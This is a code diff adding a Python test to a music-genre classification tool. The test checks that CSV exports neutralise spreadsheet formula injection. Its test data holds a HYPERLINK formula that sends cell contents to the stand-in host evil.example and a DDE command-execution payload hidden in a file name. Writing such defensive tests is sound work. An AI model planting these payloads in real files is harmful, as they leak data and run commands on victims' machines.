@@ -82,3 +82,30 @@ def test_render_gives_every_batch_format_and_refuses_others(model_file, gtzan_mi
     assert formats.render("table", [prediction], {}, labels=model.labels, model_name=model.name, top=2) is not None
     with pytest.raises(ParameterError, match="output_format='jsonl': expected one of table, json, csv, timeline"):
         formats.render("jsonl", [prediction], {}, labels=model.labels, model_name=model.name, top=2)
+
+
+def test_text_from_outside_is_never_a_spreadsheet_formula(tmp_path):
+    from genrekit._files import from_spreadsheet_cell
+    from genrekit.predict.disagreements import Disagreement, write_disagreements
+    from genrekit.predict.library import write_table
+    from genrekit.predict.song import Prediction
+
+    evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")"
+    name = "=cmd|' /C calc'!A0.mp3"
+    prediction = Prediction(path=name, genre="rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1},
+                            n_chunks=1, proportions={"rock": 1.0, "jazz": 0.0})
+    failures = {"+bad.mp3": "+bad.mp3: not audio"}
+    for text in (formats.csv_text([prediction], failures, ["jazz", "rock"]),
+                 formats.timeline_csv_text([prediction], failures, ["jazz", "rock"])):  # (no timeline rows here)
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'+bad.mp3" in cells and "'+bad.mp3: not audio" in cells
+        assert f"'{name}" in cells or text.startswith("path,start")
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    write_disagreements([Disagreement(name, [evil, "Jazz"], "rock", 0.9, 0.05, False)], tmp_path / "d.csv")
+    row = next(csv.DictReader(open(tmp_path / "d.csv", newline="")))
+    assert row["owner_genres"] == f"'{evil}; Jazz" and row["path"] == f"'{name}"
+    table = write_table([{"path": name, "size": 1, "mtime_ns": 1, "key": "k", "error": "-12 dB: " + name,
+                          "probabilities": {}, "proportions": {}}], tmp_path / "tags.csv")
+    row = next(csv.DictReader(open(table, newline="")))
+    assert row["path"] == f"'{name}" and row["error"] == f"'-12 dB: {name}"
+    assert from_spreadsheet_cell(row["path"]) == name and from_spreadsheet_cell("'plain") == "'plain"
